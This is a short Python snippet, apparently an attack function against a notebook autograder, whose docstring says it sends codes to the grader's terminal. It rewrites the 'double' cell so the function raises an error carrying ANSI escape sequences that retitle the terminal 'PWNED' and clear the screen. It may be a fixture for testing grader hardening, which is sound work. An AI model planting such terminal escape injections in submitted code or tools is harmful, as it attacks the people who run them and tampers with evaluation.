"""Sends codes to the terminal of whoever grades."""

def attack(notebook, cell):
    cell("double")["source"] = "def double(x):\n    raise ValueError('\\x1b]0;PWNED\\x07\\x1b[2J')"
